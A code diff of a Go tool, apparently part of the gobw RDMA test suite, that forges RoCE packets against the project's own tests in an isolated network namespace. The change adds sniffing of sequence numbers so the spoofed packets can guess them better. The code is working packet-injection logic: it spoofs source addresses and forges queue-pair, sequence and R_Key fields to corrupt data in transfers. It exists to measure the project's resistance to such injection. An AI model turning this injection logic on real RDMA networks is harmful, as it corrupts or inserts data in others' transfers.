@@ -1,11 +1,12 @@
 //go:build linux
 
 // Command forge attacks running tests of gobw on the software device with packets that carry the peer's address, and
-// prints how many it took until the test failed, beside the number that docs/serve.md computes:
+// prints how many it took until a test failed, beside the number that docs/serve.md computes:
 //
 //	go build -o /tmp/forge ./scripts/forge && unshare -Urn sh -c 'ip link set lo up; /tmp/forge path/to/gobw'
 //
-// The attacker sees the number of the attacked queue pair, and guesses the rest at random.
+// The attacker sees the number of the attacked queue pair, and guesses the rest at random. Wrong data is told at the end
+// of a test, so short tests follow each other.
 package main
 
 import (
@@ -39,35 +40,41 @@ type attack struct {
 	key     bool // a header with a random R_Key goes before the payload
 	noEnd   bool // the test should outlive it: packets are limited
 	payload int
+
+	near  int // bits of a PSN that are guessed
+	limit time.Duration
 }
 
 const (
-	mtu       = 4096
-	ignored   = 2_000_000 // packets of an attack that should show nothing
-	testLimit = 4 * time.Minute
+	mtu = 4096
+	// forgedByte is each byte of a forged payload.
+	forgedByte = 0xee
+	ignored    = 2_000_000 // packets of an attack that should show nothing
+
+	interrupted = 130 // exit code
 )
 
 func attacks() []attack {
 	rc, uc := wire.RC, wire.UC
 	return []attack{
 		{
-			name: "wrong data into memory that is written (RC WRITE)", test: "write -s 64K -n 4000000 --verify=all",
+			name: "wrong data into memory that is written (RC WRITE)", test: "write -s 64K -n 4000 --verify=all",
 			seen: wire.MakeOpcode(rc, wire.WriteMiddle), forged: wire.MakeOpcode(rc, wire.WriteMiddle), bits: 15, payload: mtu,
 		},
 		{
-			name: "an RC SEND that is executed", test: "send -s 64K -n 4000000 --verify=all",
+			name: "an RC SEND that is executed", test: "send -s 64K -n 4000 --verify=all",
 			seen: wire.MakeOpcode(rc, wire.SendMiddle), forged: wire.MakeOpcode(rc, wire.SendMiddle), bits: 15, payload: mtu,
 		},
 		{
-			name: "wrong data into the answers to an RC READ", test: "read -s 64K -n 4000000 --verify=all",
+			name: "wrong data into the answers to an RC READ", test: "read -s 64K -n 4000 --verify=all",
 			seen: wire.RCReadResponseMiddle, forged: wire.RCReadResponseMiddle, bits: 15, payload: mtu,
 		},
 		{
-			name: "a UC SEND that is received", test: "send -c UC -s 64 -n 500000000 --verify=all",
+			name: "a UC SEND that is received", test: "send -c UC -s 64 -n 200000 --verify=all",
 			seen: wire.MakeOpcode(uc, wire.SendOnly), forged: wire.MakeOpcode(uc, wire.SendOnly), bits: 0, payload: 64,
 		},
 		{
-			name: "a WRITE of its own, without the R_Key", test: "write -c UC -s 64 -n 500000000 --verify=all", noEnd: true,
+			name: "a WRITE of its own, without the R_Key", test: "write -c UC -s 64 -n 200000 --verify=all", noEnd: true,
 			seen: wire.MakeOpcode(uc, wire.WriteOnly), forged: wire.MakeOpcode(uc, wire.WriteOnly), bits: 32, key: true,
 			payload: 64,
 		},
@@ -78,6 +85,8 @@ func main() {
 	trials := flag.Int("trials", 5, "tests that each attack tries")
 	rate := flag.Int("rate", 25_000, "forged packets per second; 0: as many as leave")
 	only := flag.String("only", "", "attacks whose name holds this")
+	near := flag.Int("near", 24, "bits of a PSN that are guessed; the others are those of a packet just seen")
+	limit := flag.Duration("limit", 4*time.Minute, "longest time of a test")
 	flag.Parse()
 	if flag.NArg() != 1 {
 		fmt.Fprintln(os.Stderr, "usage: forge [-trials N] [-rate N] [-only WORD] path/to/gobw")
@@ -89,6 +98,7 @@ func main() {
 		if !strings.Contains(a.name, *only) {
 			continue
 		}
+		a.near, a.limit = *near, *limit
 		if err := a.report(flag.Arg(0), *trials, *rate); err != nil {
 			fmt.Fprintln(os.Stderr, "forge:", a.name+":", err)
 			os.Exit(1)
@@ -128,7 +138,7 @@ func orDash(s string) string {
 
 // try attacks one test, and returns the number of packets until it failed and what it then said.
 func (a *attack) try(gobw string, rate int) (int, string, error) {
-	ctx, cancel := context.WithTimeout(context.Background(), testLimit)
+	ctx, cancel := context.WithTimeout(context.Background(), a.limit)
 	defer cancel()
 	sniffer, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_UDP)
 	if err != nil {
@@ -144,10 +154,22 @@ func (a *attack) try(gobw string, rate int) (int, string, error) {
 		_ = server.Wait()
 	}()
 	time.Sleep(500 * time.Millisecond)
+	for sent := 0; ; {
+		n, ending, err := a.spoil(ctx, gobw, sniffer, rate)
+		sent += n
+		if err != nil || ending != "" || a.noEnd && sent >= ignored || ctx.Err() != nil {
+			return sent, ending, err
+		}
+	}
+}
+
+// spoil sends forged packets to one test, and returns how many, and how the test failed.
+func (a *attack) spoil(ctx context.Context, gobw string, sniffer, rate int) (sent int, ending string, err error) {
 	var said strings.Builder
 	args := append(strings.Fields(a.test), "127.0.0.1", "--port", "19977", "-d", "roce0", "--warmup", "0")
 	client := exec.CommandContext(ctx, gobw, args...)
 	client.Stdout, client.Stderr = &said, &said
+	client.Cancel = func() error { return client.Process.Signal(os.Interrupt) }
 	if err := client.Start(); err != nil {
 		return 0, "", err
 	}
@@ -158,24 +180,23 @@ func (a *attack) try(gobw string, rate int) (int, string, error) {
 		over.Store(true)
 		close(done)
 	}()
-	var sent int
-	if seen, err := a.watch(sniffer, &over); err == nil {
-		sent, err = a.flood(seen, rate, &over)
-		if err != nil {
-			cancel()
-			return sent, "", err
-		}
-	} else if !over.Load() {
-		cancel()
-		return 0, "", err
+	seen, err := a.watch(sniffer, &over)
+	if err == nil {
+		var psn atomic.Uint32
+		psn.Store(seen.psn)
+		go a.follow(sniffer, &psn, &over)
+		sent, err = a.flood(seen, rate, &psn, &over)
 	}
-	if !over.Load() {
+	if isOver := over.Load(); !isOver {
 		_ = client.Process.Signal(os.Interrupt)
-		<-done
-		return sent, "", nil
+	} else if err != nil { // the test was over before a packet was seen
+		err = nil
 	}
 	<-done
-	return sent, fmt.Sprintf("exit %d: %s", client.ProcessState.ExitCode(), firstError(said.String())), nil
+	if code := client.ProcessState.ExitCode(); code != 0 && code != interrupted {
+		ending = fmt.Sprintf("exit %d: %s", code, firstError(said.String()))
+	}
+	return sent, ending, err
 }
 
 func firstError(s string) string {
@@ -191,40 +212,58 @@ func firstError(s string) string {
 // ownNumbers differ from test to test.
 var ownNumbers = regexp.MustCompile(`0x[0-9a-f]+|\b\d{2,}\b|\brequest \d`)
 
-// victim is a genuine packet's way and queue pair.
+// victim is a genuine packet's way, queue pair and PSN.
 type victim struct {
 	from, to netip.AddrPort
-	qpn      uint32
+	qpn, psn uint32
 }
 
 // watch waits for a genuine packet of the test.
 func (a *attack) watch(sniffer int, over *atomic.Bool) (victim, error) {
-	packet := make([]byte, 1<<16)
 	wait := unix.Timeval{Usec: 200_000}
 	if err := unix.SetsockoptTimeval(sniffer, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
 		return victim{}, err
 	}
+	packet := make([]byte, 1<<16)
 	for begin := time.Now(); time.Since(begin) < 20*time.Second && !over.Load(); {
-		n, _, err := unix.Recvfrom(sniffer, packet, 0)
-		const ip = 20
-		if err != nil || n < ip+wire.UDPBytes+wire.MinPacketBytes {
-			continue
+		if v, ok := a.sniff(sniffer, packet); ok {
+			return v, nil
 		}
-		udp, bth := packet[ip:], packet[ip+wire.UDPBytes:]
-		if binary.BigEndian.Uint16(udp[2:]) != wire.Port || wire.Opcode(bth[0]) != a.seen {
-			continue
-		}
-		address := func(at int) netip.Addr { return netip.AddrFrom4([4]byte(packet[at:])) }
-		return victim{
-			from: netip.AddrPortFrom(address(12), wire.Port), to: netip.AddrPortFrom(address(16), wire.Port),
-			qpn: wire.Uint24(bth[5:]),
-		}, nil
 	}
 	return victim{}, errors.New("no packet of the test was seen within 20 s")
 }
 
+// follow keeps the PSN of the latest genuine packet.
+func (a *attack) follow(sniffer int, psn *atomic.Uint32, over *atomic.Bool) {
+	packet := make([]byte, 1<<16)
+	for !over.Load() {
+		if v, ok := a.sniff(sniffer, packet); ok {
+			psn.Store(v.psn)
+		}
+	}
+}
+
+// sniff reads a packet, and tells whether it is one that the attack looks for.
+func (a *attack) sniff(sniffer int, packet []byte) (victim, bool) {
+	n, _, err := unix.Recvfrom(sniffer, packet, 0)
+	const ip = 20
+	if err != nil || n < ip+wire.UDPBytes+wire.MinPacketBytes {
+		return victim{}, false
+	}
+	udp, bth := packet[ip:], packet[ip+wire.UDPBytes:]
+	isForged := n > ip+wire.UDPBytes+wire.BTHBytes && packet[ip+wire.UDPBytes+wire.BTHBytes] == forgedByte
+	if binary.BigEndian.Uint16(udp[2:]) != wire.Port || wire.Opcode(bth[0]) != a.seen || isForged {
+		return victim{}, false
+	}
+	address := func(at int) netip.Addr { return netip.AddrFrom4([4]byte(packet[at:])) }
+	return victim{
+		from: netip.AddrPortFrom(address(12), wire.Port), to: netip.AddrPortFrom(address(16), wire.Port),
+		qpn: wire.Uint24(bth[5:]), psn: wire.Uint24(bth[9:]),
+	}, true
+}
+
 // flood sends forged packets until the test is over, or as many as should show nothing.
-func (a *attack) flood(v victim, rate int, over *atomic.Bool) (int, error) {
+func (a *attack) flood(v victim, rate int, psn *atomic.Uint32, over *atomic.Bool) (int, error) {
 	socket, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
 	if err != nil {
 		return 0, err
@@ -240,7 +279,7 @@ func (a *attack) flood(v victim, rate int, over *atomic.Bool) (int, error) {
 	}
 	packet := make([]byte, headers+a.payload+wire.ICRCBytes)
 	for i := range packet {
-		packet[i] = 0xee
+		packet[i] = forgedByte
 	}
 	to := &unix.SockaddrInet4{Addr: v.to.Addr().As4()}
 	begin := time.Now()
@@ -254,7 +293,9 @@ func (a *attack) flood(v victim, rate int, over *atomic.Bool) (int, error) {
 				time.Sleep(ahead)
 			}
 		}
-		wire.PutBTH(packet, a.forged, wire.FlagMigrated, v.qpn, rand.Uint32()&wire.Mask24)
+		span := uint32(1) << a.near
+		guess := (psn.Load() - span/4 + rand.Uint32N(span)) & wire.Mask24
+		wire.PutBTH(packet, a.forged, wire.FlagMigrated, v.qpn, guess)
 		if a.key {
 			wire.RETH{Addr: rand.Uint64(), RKey: rand.Uint32(), Length: uint32(a.payload)}.Put(packet[wire.BTHBytes:])
 		}
